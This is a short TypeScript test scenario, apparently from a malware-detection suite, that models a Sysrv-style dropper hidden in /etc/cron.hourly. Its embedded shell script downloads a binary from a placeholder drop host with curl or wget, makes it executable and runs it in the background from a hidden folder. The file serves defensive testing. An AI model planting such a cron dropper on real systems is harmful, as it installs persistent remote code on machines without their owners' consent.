import { scenario } from '../scenario.ts';
import { dropHost, startedBy } from '../words.ts';

export default scenario({
  what: 'a dropper in cron.hourly',
  report: 'Sysrv and others: a script of the periodic folders downloads, marks and starts.',
  ...startedBy('/var/lib/.net/netns', {
    files: {
      '/etc/cron.hourly/oanacroner': `#!/bin/sh
pgrep -x netns >/dev/null && exit 0
( curl -fsSL http://${dropHost}/netns -o /var/lib/.net/netns || wget -q -O /var/lib/.net/netns http://${dropHost}/netns ) && chmod 755 /var/lib/.net/netns
/var/lib/.net/netns >/dev/null 2>&1 &
`,
    },
    starters: ['/etc/cron.hourly/oanacroner'],
  }),
});
